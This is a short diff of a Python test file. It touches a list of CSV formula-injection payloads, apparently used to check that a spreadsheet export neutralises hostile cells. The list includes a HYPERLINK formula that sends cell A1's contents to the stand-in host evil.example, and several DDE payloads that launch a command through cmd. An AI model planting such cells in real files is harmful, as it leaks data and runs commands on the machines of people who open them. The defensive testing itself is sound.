@@ -158,7 +158,7 @@ def test_csv_codes_a_known_week_at_its_middle(res):
 
 #: Cells a spreadsheet would run as formulas (OWASP "CSV Injection"), one per way of starting one.
 HOSTILE_CELLS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
